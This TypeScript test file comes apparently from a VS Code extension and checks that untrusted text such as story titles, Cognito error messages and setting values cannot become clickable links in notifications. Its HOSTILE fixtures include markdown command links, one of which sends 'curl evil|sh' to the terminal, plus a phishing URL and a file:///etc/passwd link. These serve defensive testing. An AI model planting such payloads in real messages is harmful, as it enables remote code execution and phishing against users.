import * as assert from 'node:assert/strict';
import { toAuthError } from '../../src/core/auth/errors';
import { checkSetting } from '../../src/core/config';
import { notificationLinks, notificationSafe } from '../../src/core/notificationText';
import { deleteDetail, deleteQuestion, savedMessage } from '../../src/core/story/notices';

const QUIT = '[Click here](command:workbench.action.quit)';
const HOSTILE = [
  QUIT,
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[a](https://evil.example/phish)',
  '[a](file:///etc/passwd "title")',
  '[nested [b](command:x)',
  'before ][ [a](command:x) after',
];

describe('notificationSafe', () => {
  it('the pattern matches what VS Code turns into links (so the checks below can fail)', () => {
    for (const text of HOSTILE) assert.equal(notificationLinks(text).length, 1, text);
    assert.deepEqual(notificationLinks(`Saved “${QUIT}”.`), ['command:workbench.action.quit']);
    assert.deepEqual(
      notificationLinks('Run [x]\n(command:y) now'),
      [],
      'a newline becomes a space, which breaks a link',
    );
  });

  it('leaves no link in any untrusted text, and reads the same', () => {
    for (const text of HOSTILE) {
      const safe = notificationSafe(text);
      assert.deepEqual(notificationLinks(safe), [], safe);
      assert.deepEqual(notificationLinks(`Saved “${safe}” to a.md.`), [], safe);
      assert.equal(safe.replace(/\u2060/g, ''), text, 'only invisible word joiners were added');
    }
  });

  it('a trusted `]` before untrusted `(…)` cannot form a link either', () => {
    assert.deepEqual(notificationLinks(`[ok]${notificationSafe('(command:x)')}`), []);
  });

  it('leaves ordinary text exactly as it was', () => {
    for (const text of ['The Lighthouse Keeper', 'Ann (the cat) & Bob', 'a*b_c `d` <e>', ''])
      assert.equal(notificationSafe(text), text);
  });
});

describe('untrusted text in notifications, per source', () => {
  it('story title: the saved and delete messages', () => {
    for (const title of HOSTILE) {
      for (const message of [savedMessage(title, 'stories/a.md'), deleteQuestion(title)]) {
        assert.deepEqual(notificationLinks(message), [], message);
        assert.ok(message.replace(/\u2060/g, '').includes(title), 'the title is still shown');
      }
    }
    assert.deepEqual(notificationLinks(savedMessage('t', '[a](command:x).md')), [], 'a file name too');
  });

  it('tells two stories of one title apart in the Delete question: when, which model, regenerated (#24)', () => {
    const at = Date.now() - 3_600_000; // an hour ago: the format, not the date, is under test
    const story = { title: 'The Storm', modelId: 'amazon.nova-lite-v1:0', createdAt: at };
    const when = new Intl.DateTimeFormat('en-US', { dateStyle: 'medium', timeStyle: 'short' }).format(at);
    assert.equal(deleteDetail(story, 'Nova Lite', 'en-US'), `Written ${when} with Nova Lite.`);
    assert.equal(
      deleteDetail({ ...story, parentId: 's-1' }, 'Nova Lite', 'en-US'),
      `Written ${when} with Nova Lite (regenerated).`,
    );
    assert.equal(
      deleteDetail({ ...story, title: 'The Storm (refined)', parentId: 's-1' }, 'Nova Lite', 'en-US'),
      `Written ${when} with Nova Lite.`,
      'a refined story says so in its title already',
    );
    for (const name of HOSTILE) assert.deepEqual(notificationLinks(deleteDetail(story, name, 'en-US')), []);
  });

  it('Cognito error messages, through every rule that quotes the server', () => {
    const errors = [
      { name: 'InvalidPasswordException', message: `Password did not conform with policy: ${QUIT}` },
      { name: 'InvalidParameterException', message: `1 validation error: ${QUIT}` },
      { name: 'UserLambdaValidationException', message: `PreSignUp failed with error ${QUIT}.` },
      { name: 'UserLambdaValidationException', message: `Lambda said ${QUIT}` },
      { name: 'InvalidUserPoolConfigurationException', message: `Bad: ${QUIT}` },
      { name: 'NotAuthorizedException', message: `Something new: ${QUIT}` },
      { name: 'SomethingNewException', message: QUIT },
      { name: QUIT, message: 'x' },
    ];
    for (const raw of errors) {
      const message = toAuthError(Object.assign(new Error(raw.message), { name: raw.name })).message;
      assert.deepEqual(notificationLinks(message), [], `${raw.name}: ${message}`);
      assert.match(message, /Click here|\]/);
    }
  });

  it('invalid setting values', () => {
    for (const key of ['region', 'userPoolId', 'clientId', 'identityPoolId', 'authFlow'] as const) {
      const problem = checkSetting(key, QUIT);
      assert.ok(problem, key);
      assert.deepEqual(notificationLinks(problem.message), [], problem.message);
      assert.match(problem.message, /Click here/);
    }
  });
});
